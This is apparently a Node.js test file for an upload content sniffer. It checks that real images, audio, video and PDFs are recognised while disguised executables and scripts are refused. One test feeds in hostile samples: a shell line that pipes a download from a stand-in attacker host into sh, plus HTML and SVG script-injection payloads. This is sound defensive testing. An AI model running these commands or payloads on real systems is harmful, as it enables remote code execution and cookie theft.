import assert from "node:assert/strict";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { after, describe, it } from "node:test";
import sharp from "sharp";
import { acceptedMimes, classify, heicSupported, sniffBuffer, sniffFile } from "./sniff.ts";
import { buildMp4Head, buildWav, buildWebmHead } from "./test-fixtures.ts";

const dir = mkdtempSync(path.join(tmpdir(), "vsp-sniff-"));
after(() => rmSync(dir, { recursive: true, force: true }));

/** Writes `bytes` under a misleading name, so the test shows that only the content counts. */
function file(name: string, bytes: Buffer | string): string {
  const p = path.join(dir, name);
  writeFileSync(p, bytes);
  return p;
}

const solid = (format: "jpeg" | "png" | "webp" | "avif") =>
  sharp({ create: { width: 16, height: 16, channels: 3, background: "#336699" } }).toFormat(format).toBuffer();

describe("sniffing a file's real type from its content", () => {
  it("recognises JPEG, PNG, WebP and AVIF photos as images", async () => {
    for (const [format, mime] of [["jpeg", "image/jpeg"], ["png", "image/png"], ["webp", "image/webp"], ["avif", "image/avif"]] as const) {
      const sniffed = await sniffFile(file(`x.${format}`, await solid(format)));
      assert.equal(sniffed?.mime, mime);
      assert.equal(classify(mime), "image");
    }
  });

  it("refuses an ELF program named photo.jpg", async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]), Buffer.alloc(120)]);
    const sniffed = await sniffFile(file("photo.jpg", elf));
    assert.equal(sniffed?.mime, "application/x-elf");
    assert.equal(classify(sniffed.mime), null);
  });

  it("refuses a Windows PE program named photo.jpg", async () => {
    const pe = Buffer.alloc(512);
    pe.write("MZ", 0, "latin1");
    pe.writeUInt32LE(0x80, 0x3c);
    pe.write("PE\0\0", 0x80, "latin1");
    const sniffed = await sniffFile(file("photo.jpg", pe));
    assert.ok(sniffed, "a PE file is recognised as such");
    assert.equal(classify(sniffed.mime), null);
  });

  it("finds no media type in a shell script, an HTML page or an SVG named photo.jpg", async () => {
    const texts = [
      "#!/bin/sh\ncurl http://attacker.example/x | sh\n",
      "<!doctype html><html><body><script>alert(document.cookie)</script></body></html>",
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="10" height="10"/></svg>',
    ];
    for (const text of texts) {
      const sniffed = await sniffFile(file("photo.jpg", text));
      assert.equal(sniffed === null ? null : classify(sniffed.mime), null, text.slice(0, 20));
    }
  });

  it("classes a PDF as a document (only fields that accept documents take it) and refuses zip archives", async () => {
    const pdf = await sniffBuffer(Buffer.from("%PDF-1.7\n%âãÏÓ\n1 0 obj\n<<>>\nendobj\n", "latin1"));
    assert.equal(pdf?.mime, "application/pdf");
    assert.equal(classify(pdf.mime), "document");
    const zip = Buffer.concat([Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0, 0, 0, 0, 0]), Buffer.alloc(20), Buffer.from("a.txt"), Buffer.from("hello")]);
    const sniffedZip = await sniffBuffer(zip);
    assert.ok(sniffedZip === null || classify(sniffedZip.mime) === null);
  });

  it("detects a real PNG named song.mp3 as a PNG image, not audio", async () => {
    const sniffed = await sniffFile(file("song.mp3", await solid("png")));
    assert.deepEqual(sniffed, { mime: "image/png", ext: "png" });
    assert.equal(classify(sniffed.mime), "image");
  });

  it("recognises a WAV file as audio", async () => {
    const sniffed = await sniffFile(file("recording", buildWav()));
    assert.deepEqual(sniffed, { mime: "audio/wav", ext: "wav" });
    assert.equal(classify(sniffed.mime), "audio");
  });

  it("tells an audio-only WebM (as browsers record it) from a WebM with video", async () => {
    const audio = await sniffBuffer(buildWebmHead(["A_OPUS"]));
    assert.deepEqual(audio, { mime: "audio/webm", ext: "webm" });
    assert.equal(classify(audio.mime), "audio");
    const video = await sniffBuffer(buildWebmHead(["V_VP8", "A_OPUS"]));
    assert.deepEqual(video, { mime: "video/webm", ext: "webm" });
    assert.equal(classify(video.mime), "video");
  });

  it("calls M4A audio and audio-only MP4 audio, and MP4 with a video track video", async () => {
    assert.deepEqual(await sniffBuffer(buildMp4Head("M4A", ["soun"])), { mime: "audio/mp4", ext: "m4a" });
    assert.deepEqual(await sniffBuffer(buildMp4Head("isom", ["soun"])), { mime: "audio/mp4", ext: "m4a" });
    assert.deepEqual(await sniffBuffer(buildMp4Head("isom", ["vide", "soun"])), { mime: "video/mp4", ext: "mp4" });
    // No track list in the first bytes (moov at the end): the cautious answer is video.
    assert.deepEqual(await sniffBuffer(buildMp4Head("isom", [])), { mime: "video/mp4", ext: "mp4" });
    assert.deepEqual(await sniffBuffer(buildMp4Head("qt", ["vide"])), { mime: "video/quicktime", ext: "mov" });
  });

  it("recognises MP3 (with an ID3 tag) and Ogg Opus as audio", async () => {
    const id3 = Buffer.concat([Buffer.from("ID3\x03\x00\x00\x00\x00\x00\x0a", "latin1"), Buffer.alloc(10), Buffer.from([0xff, 0xfb, 0x90, 0x64]), Buffer.alloc(400)]);
    const mp3 = await sniffBuffer(id3);
    assert.equal(mp3?.mime, "audio/mpeg");
    const oggPage = Buffer.alloc(64);
    oggPage.write("OggS", 0, "latin1");
    oggPage.write("OpusHead", 28, "latin1");
    const opus = await sniffBuffer(oggPage);
    assert.deepEqual(opus, { mime: "audio/ogg", ext: "opus" });
    assert.equal(classify(opus.mime), "audio");
  });

  it("accepts HEIC photos only where sharp can decode them", async () => {
    const heic = buildMp4Head("heic", []);
    const sniffed = await sniffBuffer(heic);
    assert.equal(sniffed?.mime, "image/heic");
    assert.equal(classify(sniffed.mime), heicSupported ? "image" : null);
  });

  it("looks only at the first bytes of a file", async () => {
    // A WAV header followed by 1 MB of anything: the sniff is the same as for the bare header.
    const big = Buffer.concat([buildWav(10), Buffer.alloc(1_000_000, 0x3c)]);
    assert.deepEqual(await sniffFile(file("big.wav", big)), { mime: "audio/wav", ext: "wav" });
  });

  it("lists the accepted types of each kind", () => {
    assert.deepEqual(acceptedMimes("video"), ["video/mp4", "video/webm", "video/quicktime"]);
    assert.ok(acceptedMimes("audio").includes("audio/webm"));
    assert.ok(!acceptedMimes("image").includes("image/svg+xml"));
  });
});
